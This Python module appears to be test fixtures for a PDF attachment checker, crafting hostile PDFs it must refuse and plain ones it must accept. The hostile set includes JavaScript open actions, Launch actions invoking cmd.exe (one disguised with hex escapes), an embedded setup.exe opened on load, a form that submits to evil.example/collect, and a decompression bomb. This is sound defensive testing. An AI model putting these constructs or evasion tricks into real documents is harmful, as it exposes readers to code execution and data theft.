"""Crafted PDFs, each named by what it hides: the hostile ones the attachments' checks must refuse, the plain
ones they must accept. Written byte by byte (pypdf's writer cannot make object streams), with a correct
cross-reference stream unless the case is about a file without one."""

import io
import zlib

from pypdf import PdfReader, PdfWriter

from workflows.core.demo import text_pdf
from workflows.core.pdfcheck import PDF_MAX_INFLATED

CATALOG = 1
PAGE = 3
TEXT = b"BT /F1 24 Tf 72 760 Td (Complaint letter) Tj ET"


def pdf_file(objects: dict[int, bytes], *, packed=(), xref=True) -> bytes:
    """A PDF of these objects (number -> body), with `packed` ones in one compressed object stream.

    Without `xref` the file has a bare trailer and a broken pointer, as damaged files do: readers then find the
    objects by scanning.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets, in_stream = {}, {}
    for number, body in objects.items():
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    last = max(objects)
    if packed:
        stream_number = last = last + 1
        header, data = [], b""
        for index, number in enumerate(packed):
            header.append(b"%d %d" % (number, len(data)))
            in_stream[number] = (stream_number, index)
            data += objects[number] + b"\n"
        header = b" ".join(header) + b"\n"
        packed_data = zlib.compress(header + data)
        offsets[stream_number] = len(out)
        out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
            stream_number,
            len(packed),
            len(header),
            len(packed_data),
        )
        out += packed_data + b"\nendstream\nendobj\n"
    if not xref:
        # A cross-reference that points nowhere: readers rebuild it by scanning the file.
        return bytes(out) + b"trailer\n<< /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (CATALOG, len(out) + 9999)
    xref_number = last + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in in_stream:
            rows += b"\x02" + in_stream[number][0].to_bytes(4, "big") + in_stream[number][1].to_bytes(2, "big")
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff"
    rows = zlib.compress(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /Root %d 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        CATALOG,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def document(*, catalog=b"", page=b"", extra=None, packed=(), xref=True) -> bytes:
    """A one-page letter; `catalog` and `page` go into those dictionaries, `extra` adds objects (6 onwards)."""
    objects = {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(TEXT), TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(extra or {}),
    }
    if packed == "all":  # every object that is not a stream
        packed = tuple(number for number, body in objects.items() if b"stream" not in body)
    return pdf_file(objects, packed=packed, xref=xref)


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A " + action + b" >>"


JS = b"<< /S /JavaScript /JS (app.alert('hello')) >>"


def encrypted(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(document())))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def bomb() -> bytes:
    """An object stream of about 10 KB that unpacks past PDF_MAX_INFLATED."""
    padding = b" " * (PDF_MAX_INFLATED + 1024)
    return document(extra={6: b"<< /Padding (x) >>" + padding}, packed=(1, 2, 3, 5, 6))


HOSTILE = {
    "js_openaction_in_objstm": lambda: document(catalog=b"/OpenAction 6 0 R", extra={6: JS}, packed="all"),
    "js_openaction_in_objstm_without_xref": lambda: document(
        catalog=b"/OpenAction 6 0 R", extra={6: JS}, packed="all", xref=False
    ),
    "embedded_exe_gotoe": lambda: document(
        catalog=b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >> "
        b"/OpenAction << /S /GoToE /NewWindow true /T << /R /C /N (setup.exe) >> >>",
        extra={
            6: b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
            7: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        },
    ),
    "gotoe_link": lambda: document(
        page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /GoToE /T << /R /C /N (setup.exe) >> >>")}
    ),
    "gotor_link": lambda: document(page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>")}),
    "uri_action": lambda: document(
        page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /URI /URI (http://evil.example/) >>")}
    ),
    "uri_openaction": lambda: document(catalog=b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
    "submitform": lambda: document(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        extra={
            6: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 620] /P 3 0 R "
            b"/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>"
        },
        packed="all",
    ),
    "importdata": lambda: document(page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /ImportData /F (data.fdf) >>")}),
    "launch": lambda: document(page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /Launch /F (cmd.exe) >>")}),
    "launch_spelt_in_hex_escapes": lambda: document(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "richmedia": lambda: document(
        page=b"/Annots [6 0 R]",
        extra={6: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets 7 0 R >> >>"},
    ),
    "xfa": lambda: document(
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
        extra={6: b"<< /Length 21 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream"},
    ),
    "aa_on_page": lambda: document(page=b"/AA << /O << /S /Named /N /Print >> >>"),
    "aa_on_form_field_running_js": lambda: document(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        extra={6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 200 620] /AA << /K 7 0 R >> >>"}
        | {7: JS},
    ),
    "openaction_named_print": lambda: document(catalog=b"/OpenAction << /S /Named /N /Print >>"),
    "openaction_goto_then_js": lambda: document(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", extra={6: JS}
    ),
    "js_in_names_tree": lambda: document(
        catalog=b"/Names << /JavaScript 6 0 R >>", extra={6: b"<< /Names [(init) 7 0 R] >>", 7: JS}
    ),
    "unreferenced_js_object": lambda: document(extra={6: JS}),
    "unreferenced_js_object_in_objstm": lambda: document(extra={6: JS}, packed="all"),
    "file_attachment_annotation": lambda: document(
        page=b"/Annots [6 0 R]",
        extra={6: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (setup.exe) >>"},
    ),
    "encrypted": lambda: encrypted("secret"),
    "bomb": bomb,
    "truncated": lambda: document()[:300],
    "no_pages": lambda: pdf_file({CATALOG: b"<< /Type /Catalog >>"}),
    "garbage_after_header": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
    "nested_arrays": lambda: document(extra={6: b"[" * 5000 + b"]" * 5000}),
}
# The reason each is refused for (pdfcheck.PdfVerdict's value), when it is not "active".
HOSTILE_VERDICT = {
    "encrypted": "encrypted",
    "bomb": "too_complex",
    "truncated": "malformed",
    "no_pages": "malformed",
    "garbage_after_header": "malformed",
    "nested_arrays": "too_complex",
}


def chromium_pdf() -> bytes:
    """What the certificate engine's Chromium makes of a Bengali letter (a real producer's structure: object
    streams, fonts, tagged content)."""
    from workflows.certificates.pdf import html_to_pdf

    return html_to_pdf(
        "<!DOCTYPE html><html lang='bn'><head><meta charset='utf-8'></head>"
        "<body><h1>অভিযোগপত্র</h1><p>তিন মাস আগে আবেদন করেছি, এখনও সনদ পাইনি।</p></body></html>"
    )


PLAIN = {
    "text": document,
    "object_streams": lambda: document(packed="all"),
    "object_streams_without_xref": lambda: document(packed="all", xref=False),
    "goto_outline": lambda: document(
        catalog=b"/Outlines 6 0 R /PageMode /UseOutlines",
        extra={
            6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            7: b"<< /Title (Page one) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        },
    ),
    "openaction_destination": lambda: document(catalog=b"/OpenAction [3 0 R /FitH 842]"),
    "openaction_goto": lambda: document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "internal_link": lambda: document(page=b"/Annots [6 0 R]", extra={6: link(b"<< /S /GoTo /D [3 0 R /Fit] >>")}),
    "encrypted_with_empty_user_password": lambda: encrypted(""),
    "pypdf_writer": lambda: text_pdf("Letter"),
    "chromium": chromium_pdf,
}
